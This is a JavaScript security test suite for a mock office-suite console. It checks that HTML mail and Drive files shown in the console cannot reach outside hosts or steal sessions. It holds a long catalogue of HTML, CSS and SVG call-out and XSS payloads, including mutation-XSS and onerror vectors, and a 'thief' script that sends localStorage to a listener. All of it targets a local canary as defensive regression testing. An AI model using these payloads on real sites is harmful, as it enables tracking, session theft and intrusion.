// SPDX-License-Identifier: Apache-2.0
// What a world holds reaches nothing: a listener waits while a mail with every kind of call-out is looked at in all
// ways, the same file is opened as a page of the console's origin, and a page on another port tries to get in. Where a
// guard is taken away, the same listener hears of it: so each test can fail.
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer, request as httpRequest } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { PATIENCE, Server, canary, command, enter, fresh, settled } from './harness.mjs';

const MARTA = 'marta.ferri@tidewater.example';

/** Every way that is known in which a document calls out, to a host of which the listener hears. */
const callOuts = (host, scripts = '') => `<!doctype html><html manifest="http://${host}/manifest"><head>
<base href="http://${host}/base/"><title>Out</title><meta http-equiv="refresh" content="0;url=http://${host}/refresh">
<link rel="preconnect" href="http://${host}/"><link rel="dns-prefetch" href="http://${host}/"><link rel="prefetch" href="http://${host}/prefetch">
<link rel="preload" as="image" href="http://${host}/preload"><link rel="modulepreload" href="http://${host}/module.js"><link rel="prerender" href="http://${host}/prerender">
<link rel="stylesheet" href="http://${host}/style.css"><link rel="icon" href="http://${host}/icon"><link rel="manifest" href="http://${host}/app.json">
<style>@import url(http://${host}/import.css);@font-face{font-family:f;src:url(http://${host}/font)}body{background:url(http://${host}/background);font-family:f}
li{list-style-image:url(http://${host}/list)}p::before{content:url(http://${host}/content)}div{cursor:url(http://${host}/cursor),auto;border-image:url(http://${host}/border) 1}</style>
<script src="http://${host}/script.js"></script><script>fetch('http://${host}/inline')</script>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://${host}/speculation"]}]}</script></head><body background="http://${host}/body">
<p>A letter that would like to be heard of</p><li>x</li><div style="background:url(http://${host}/style-attribute)">styled</div>
<div style="background-image:image-set(url(http://${host}/set) 1x);-webkit-mask:url(http://${host}/mask)">masked</div>
<img src="http://${host}/img"><img src="//${host}/img-scheme"><img srcset="http://${host}/srcset 2x" src="x"><img src=x onerror="fetch('http://${host}/onerror')">
<img lowsrc="http://${host}/low" dynsrc="http://${host}/dyn"><picture><source srcset="http://${host}/source"><img></picture>
<video src="http://${host}/video" poster="http://${host}/poster" autoplay></video><audio src="http://${host}/audio" autoplay></audio><video><track default src="http://${host}/track"></video>
<iframe src="http://${host}/iframe"></iframe><iframe srcdoc="&lt;img src='http://${host}/srcdoc'&gt;"></iframe><object data="http://${host}/object"></object>
<embed src="http://${host}/embed"><frameset><frame src="http://${host}/frame"></frameset><input type="image" src="http://${host}/input">
<svg><image href="http://${host}/svg"/><use href="http://${host}/use#x"/><filter><feImage href="http://${host}/fe"/></filter><script>fetch('http://${host}/svgscript')</script>
<animate attributeName="href" values="http://${host}/animate"/></svg><math><mtext><img src="http://${host}/math"></mtext></math>
<table background="http://${host}/table"><td background="http://${host}/td">cell</td></table><form action="http://${host}/form"><button autofocus>Send</button></form>
<body onload="fetch('http://${host}/onload')"><details open ontoggle="fetch('http://${host}/toggle')">d</details><a href="http://${host}/click" ping="http://${host}/ping">A link</a>
<a href="javascript:fetch('http://${host}/js')">Another</a><noscript><img src="http://${host}/noscript"></noscript><template><img src="http://${host}/template"></template>
<style><!--</style><img title="--><img src=http://${host}/mutation onerror=fetch('http://${host}/mutated')>"><portal src="http://${host}/portal"></portal>${scripts}</body></html>`;

let server, context, listener, message, file, page, nothing;

const silent = (where) => assert.deepEqual(listener.seen.map((s) => s.text.split('\r\n')[0] || 'a connection'), [], where);

describe('what a world holds', () => {
before(async () => {
  server = await Server.start('--fixture', 'office', '--clock', 'frozen', '--journal', 'all,full');
  listener = await canary();
  context = await fresh();
  nothing = callOuts(listener.host);
  const token = server.token(MARTA);
  const raw = Buffer.from(`From: Mallory <mallory@elsewhere.example>\r\nTo: ${MARTA}\r\nSubject: =?utf-8?q?=E2=80=AE_=3Cimg_src=3Dhttp=3A//${listener.host}/subject=3E?=\r\n` +
    `X-Odd: <img src=http://${listener.host}/header>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${nothing}`);
  const made = await server.call(token, 'POST', '/gmail/v1/users/me/messages/import', { raw: raw.toString('base64url'), labelIds: ['INBOX'] });
  await server.call(token, 'POST', `/gmail/v1/users/me/messages/${made.id}/modify`, { addLabelIds: ['INBOX'] });
  message = made.id;
  await server.call(token, 'PATCH', '/calendar/v3/calendars/primary/events/lunchnoor0001',
    { summary: `<img src=http://${listener.host}/event>`, description: nothing, location: `http://${listener.host}/location` });
  file = await server.call(token, 'POST', '/upload/drive/v3/files?uploadType=media', nothing);
  await server.call(token, 'PATCH', `/drive/v3/files/${file.id}`, { name: `<img src=http://${listener.host}/name>.html` });
  page = await enter(context, server.info.console_url);
});

after(async () => {
  await context?.close();
  await listener?.close();
  await server?.stop();
});

/** The frame in which the mail is shown, when it has shown it. */
async function shownFrame() {
  const element = await page.waitForSelector('iframe.mail-html', { timeout: PATIENCE });
  const frame = await element.contentFrame();
  await frame.waitForFunction(() => document.body.innerText.includes('would like to be heard of'), undefined, { timeout: PATIENCE });
  return frame;
}

test('a mail with every kind of call-out is shown, in all ways, and nobody hears of it', async () => {
  const at = `${server.url}/_sosia/ui/w/office/mail/${MARTA}?open=${message}`;
  await page.goto(at);
  const frame = await shownFrame();
  assert.equal(await frame.evaluate(() => globalThis.origin), 'null');
  assert.equal(await frame.evaluate(() => { try { return localStorage.length; } catch { return 'none'; } }), 'none');
  assert.equal(await frame.evaluate(() => document.querySelectorAll('script:not(:first-of-type), link, meta[http-equiv], base, form, iframe, object, embed, video, audio, svg, [onerror], [href], [srcset]').length), 0);
  silent('the frame');
  // A click on its link is told to the page, and followed by nobody.
  await frame.locator('[data-href]').first().click({ timeout: PATIENCE });
  await page.waitForFunction((host) => document.body.innerText.includes(`${host}/click`), listener.host, { timeout: PATIENCE });
  await frame.locator('[data-href]').first().click({ button: 'middle', timeout: PATIENCE });
  silent('its link');
  assert.equal((await page.context().pages()).length, 1);
  for (const as of ['text', 'source', 'api', 'html']) {
    await page.goto(`${at}&as=${as}`);
    await settled(page);
    silent(as);
  }
  for (const where of [`calendar/${MARTA}/week/2026-11-24`, `drive/${MARTA}`, `drive/${MARTA}/${file.id}`, 'journal', 'journal?open=1&tab=request', 'journal?open=1&tab=changes', 'diff', 'outbox', '',
    `search?q=heard`]) {
    await page.goto(`${server.url}/_sosia/ui/w/office/${where}`);
    await settled(page);
    assert.equal(await page.evaluate(() => document.querySelectorAll('main img[src^=http], main script').length), 0, where);
    silent(where);
  }
});

test('the report has all of it, and nobody hears of that', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'sosia-console-'));
  try {
    const made = command(server, 'report', 'office', '--output', join(dir, 'report.html'));
    assert.equal(made.status, 0, made.stderr);
    assert.ok(readFileSync(join(dir, 'report.html'), 'utf8').includes('messages.import'));
    const tab = await context.newPage();
    await tab.goto(`file://${dir}/report.html`);
    await tab.waitForLoadState('load');
    await tab.close();
    silent('the report');
  } finally {
    rmSync(dir, { recursive: true });
  }
});

/** A page of the services on the console's origin: it would read the session and use it. */
const thief = (host) => callOuts(host, `<script>fetch('http://${host}/stolen?' + encodeURIComponent(JSON.stringify(localStorage)));new Image().src='http://${host}/image'</script>`);

const lacking = (headers, without) => Object.fromEntries(Object.entries(headers).filter(([name]) => !without.includes(name)));

/** The server on an origin of its own, where some header fields are lost: what a guard is worth without the others. */
const behind = (...without) => relay(without, {});

/** The same; more: fields that all requests get. */
async function relay(without, more) {
  const open = createServer((q, r) => {
    q.pipe(httpRequest(server.url + q.url, { method: q.method, headers: { ...lacking(q.headers, without), ...more, host: new URL(server.url).host } }, (answer) => {
      r.writeHead(answer.statusCode, lacking(answer.headers, without));
      answer.pipe(r);
    }));
  });
  await new Promise((resolve) => open.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://localhost:${open.address().port}`,
    close: () => {
      open.closeAllConnections?.();
      return new Promise((resolve) => open.close(resolve));
    },
  };
}

/** Opens a file that is a page where somebody is in, and gives what the listener heard. */
async function openFile(origin, heard, wanted) {
  const token = server.token(MARTA);
  const other = await fresh();
  try {
    const html = thief(heard.host).replace(/<meta http-equiv="refresh"[^>]*>/, '');
    const own = await server.call(token, 'POST', '/upload/drive/v3/files?uploadType=media', html);
    const tab = await other.newPage();
    await tab.goto(`${origin}/_sosia/v1/health`);
    await tab.evaluate(() => localStorage.setItem('session', 'console_w_1_stolen')).catch(() => {});
    await tab.goto(`${origin}/drive/v3/files/${own.id}?alt=media&access_token=${token}`);
    const turn = () => tab.evaluate(() => new Promise((done) => setTimeout(done, 20)));
    const end = performance.now() + PATIENCE;
    for (const way of wanted)
      while (!heard.seen.some((s) => s.text.includes(`GET ${way}`))) {
        assert.ok(performance.now() < end, `nobody asked for ${way}`);
        await turn();
      }
    const about = await tab.evaluate(() => ({ origin: globalThis.origin, title: document.title }));
    return about;
  } finally {
    await other.close();
  }
}

test('a file that is a page is no page of the origin of the console', async () => {
  const token = server.token(MARTA);
  const address = `${server.url}/drive/v3/files/${file.id}?alt=media&access_token=${token}`;
  const tab = await context.newPage();
  // As the vendor has it, it is a download; so nothing of it runs.
  const download = tab.waitForEvent('download', { timeout: PATIENCE });
  await tab.goto(address).catch(() => {});
  await (await download).cancel();
  await tab.close();
  silent('the download');
  // And where it were none: the policy alone leaves it without an origin and without scripts.
  const bare = await behind('content-disposition');
  const heard = await canary();
  const about = await openFile(bare.url, heard, []);
  assert.deepEqual(about, { origin: 'null', title: 'Out' });
  assert.deepEqual(heard.seen.filter((s) => s.text).map((s) => s.text), []); // of what no policy stops, a connection ahead of a link
  await bare.close();
  await heard.close();
  // A style sheet is none for the page: its own policy would let in what comes from its origin.
  assert.equal(await styled(page, server.url), 'refused');
});

/** Whether a page takes a file of somebody's as its style. */
async function styled(tab, origin) {
  const token = server.token(MARTA);
  const css = await server.call(token, 'POST', '/upload/drive/v3/files?uploadType=media', 'body{color:red}', undefined, 'text/css');
  return tab.evaluate((url) => new Promise((done) => {
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = url;
    link.onload = () => done('loaded');
    link.onerror = () => done('refused');
    document.head.append(link);
  }), `${origin}/drive/v3/files/${css.id}?alt=media&access_token=${token}`);
}

test('without its guard the same file would have the session', async () => {
  const open = await behind('content-security-policy', 'content-disposition');
  const heard = await canary();
  const about = await openFile(open.url, heard, ['/stolen?', '/script.js', '/inline']);
  assert.equal(about.origin, open.url);
  assert.ok(heard.seen.some((s) => s.text.includes('console_w_1_stolen')));
  await open.close();
  const dumb = await behind('sec-fetch-dest', 'accept', 'content-security-policy');
  const tab = await context.newPage();
  await tab.goto(`${dumb.url}/`);
  assert.equal(await styled(tab, dumb.url), 'loaded');
  await tab.close();
  await dumb.close();
  await heard.close();
});

test('the frame is inert with its cleaner alone, and with its policy alone but for what no policy stops', async () => {
  // The policy alone: what it lets through is a connection without a request (preconnect), which the cleaner takes out.
  const heard = await canary();
  const tab = await context.newPage();
  try {
    await tab.goto(`${server.url}/_sosia/ui/frame`);
    const policy = (await (await fetch(`${server.url}/_sosia/ui/frame`)).headers.get('content-security-policy'));
    for (const part of ['sandbox allow-scripts', "default-src 'none'", 'img-src data:', "form-action 'none'", "base-uri 'none'"]) assert.ok(policy.includes(part), policy);
    assert.ok(!/unsafe-inline|unsafe-eval|https?:/.test(policy.replace("style-src 'unsafe-inline'", '')), policy);
    // The cleaner alone: in a document without any policy, what it gives calls out to nobody.
    const source = /<script>([\s\S]*)<\/script>/.exec(await (await fetch(`${server.url}/_sosia/ui/frame`)).text())[1];
    const plain = createServer((q, r) => {
      r.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
      r.end(q.url === '/frame' ? `<!doctype html><body><script>${source}</script>` : '<!doctype html><body><iframe src="/frame"></iframe>');
    });
    await new Promise((resolve) => plain.listen(0, '127.0.0.1', resolve));
    const bare = await context.newPage();
    await bare.goto(`http://127.0.0.1:${plain.address().port}/`);
    const shown = await bare.evaluate((html) => new Promise((done) => {
      const frame = document.querySelector('iframe');
      addEventListener('message', (event) => {
        if (event.data.type === 'shown') done(event.data);
        else if (event.data.type === 'ready') frame.contentWindow.postMessage({ type: 'show', html }, '*');
      });
      frame.src = '/frame';
    }), callOuts(heard.host));
    assert.ok(shown.notLoaded > 5, JSON.stringify(shown));
    // Neither of them: the same mail is heard of, in many ways.
    const neither = await canary(), loud = await context.newPage();
    const raw = createServer((q, r) => {
      r.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
      r.end(callOuts(neither.host).replace(/<meta http-equiv="?refresh[^>]*>/gi, ''));
    });
    await new Promise((resolve) => raw.listen(0, '127.0.0.1', resolve));
    await loud.goto(`http://127.0.0.1:${raw.address().port}/`);
    const ways = () => new Set(neither.seen.map((s) => s.text.split(' ')[1]).filter(Boolean)).size;
    const end = performance.now() + PATIENCE;
    while (ways() < 10) {
      assert.ok(performance.now() < end, `only ${ways()} ways were heard of`);
      await loud.evaluate(() => new Promise((done) => setTimeout(done, 20)));
    }
    await loud.close();
    raw.closeAllConnections?.();
    await new Promise((resolve) => raw.close(resolve));
    await neither.close();
    assert.equal(shown.links, 2);
    // What the frame had asked for would have come before what the page around it asks for now.
    await bare.evaluate((host) => fetch(`http://${host}/last`, { mode: 'no-cors' }), heard.host);
    assert.deepEqual(heard.seen.map((s) => s.text.split('\r\n')[0]), ['GET /last HTTP/1.1']);
    await bare.close();
    plain.closeAllConnections?.();
    await new Promise((resolve) => plain.close(resolve));
  } finally {
    await tab.close();
    await heard.close();
  }
});

/** A page of somebody else's on another port. */
async function foreignPage() {
  const foreign = createServer((q, r) => {
    r.writeHead(200, { 'Content-Type': 'text/html' });
    r.end('<!doctype html><title>foreign</title><p>foreign');
  });
  await new Promise((resolve) => foreign.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://localhost:${foreign.address().port}/`,
    close: () => {
      foreign.closeAllConnections?.();
      return new Promise((resolve) => foreign.close(resolve));
    },
  };
}

/** What a page of another port says that it can do at an address. */
const tries = (tab, url) => tab.evaluate(async (at) => {
  const ask = (path, more) => fetch(at + path, more).then((a) => a.status, () => 'refused');
  return {
    worlds: await ask('/_sosia/v1/worlds'), code: await ask('/_sosia/v1/console/codes', { method: 'POST' }),
    snapshot: await ask('/_sosia/v1/worlds/office/snapshot', { method: 'POST', mode: 'no-cors' }),
  };
}, url);

/** The text of an address in a frame of that page, when it has some; '' where the frame was refused. */
async function framed(tab, url) {
  const element = await tab.evaluateHandle((at) => new Promise((done) => {
    const frame = document.createElement('iframe');
    frame.onload = () => done(frame);
    frame.src = at;
    document.body.append(frame);
  }), `${url}/_sosia/ui/worlds`);
  const frame = await element.contentFrame();
  const text = () => frame.evaluate(() => (location.protocol === 'chrome-error:' ? undefined : document.body?.innerText ?? '')).catch(() => undefined);
  for (;;) {
    const said = await text();
    if (said === undefined) return '';
    if (said.trim() && !said.includes('The console needs JavaScript')) return said;
    await tab.evaluate(() => new Promise((done) => setTimeout(done, 20)));
  }
}

test('without its guards a page on another port would reach what it wants', async () => {
  const foreign = await foreignPage(), tab = await context.newPage();
  // A session that is sent by itself, as a cookie is: the other port has it, and the world is changed.
  const ambient = await relay(['authorization'], { authorization: `Bearer ${server.key}` });
  // The page without its policy.
  const open = await behind('content-security-policy');
  try {
    await tab.goto(foreign.url);
    const count = async () => (await server.control('GET', '/worlds?parent=office&limit=1000')).worlds.length;
    const before = await count();
    assert.deepEqual(await tries(tab, server.url), { worlds: 401, code: 401, snapshot: 0 });
    assert.equal(await count(), before);
    assert.deepEqual(await tries(tab, ambient.url), { worlds: 200, code: 201, snapshot: 0 });
    assert.equal(await count(), before + 1);
    assert.equal(await framed(tab, server.url), '');
    assert.notEqual(await framed(tab, open.url), '');
  } finally {
    await tab.close();
    for (const one of [foreign, ambient, open]) await one.close();
  }
});

test('a page on another port of this machine reaches nothing', async () => {
  const foreign = await foreignPage();
  try {
    const was = await server.state();
    const tab = await context.newPage(); // of the browser that has the session
    await tab.goto(foreign.url);
    const got = await tab.evaluate(async (url) => {
      const ask = (path, more) => fetch(url + path, more).then((a) => a.status, () => 'refused');
      const framed = await new Promise((done) => {
        const frame = document.createElement('iframe');
        frame.src = `${url}/`;
        frame.onload = () => {
          try {
            done(frame.contentDocument ? 'readable' : 'closed');
          } catch {
            done('closed');
          }
        };
        document.body.append(frame);
      });
      const opened = window.open(`${url}/`);
      let read;
      try {
        read = opened?.localStorage.length ?? 'none';
      } catch {
        read = 'closed';
      }
      opened?.close();
      return {
        storage: localStorage.length, cookies: document.cookie, framed, read,
        worlds: await ask('/_sosia/v1/worlds'), events: await ask('/_sosia/v1/events?worlds=office'), code: await ask('/_sosia/v1/console/codes', { method: 'POST' }),
        session: await ask('/_sosia/v1/console/sessions', { method: 'POST', body: '{}', headers: { 'Content-Type': 'text/plain' } }),
        act: await ask('/_sosia/v1/worlds/office/reset', { method: 'POST', mode: 'no-cors' }),
        mail: await ask('/gmail/v1/users/me/messages'),
      };
    }, server.url);
    assert.deepEqual({ ...got, session: undefined }, {
      storage: 0, cookies: '', framed: 'closed', read: got.read, worlds: 401, events: 401, code: 401, session: undefined, act: 0, mail: 401,
    });
    assert.notEqual(got.session, 201);
    assert.ok(['closed', 'none'].includes(got.read) || got.read === 0, String(got.read));
    // The page in the frame shows nothing: it may be in nobody's.
    for (const frame of tab.frames().slice(1)) assert.ok(!(await frame.evaluate(() => document.body?.innerText ?? '').catch(() => '')).includes('Worlds'));
    assert.equal(await server.state(), was);
    await tab.close();
  } finally {
    await foreign.close();
  }
});
});
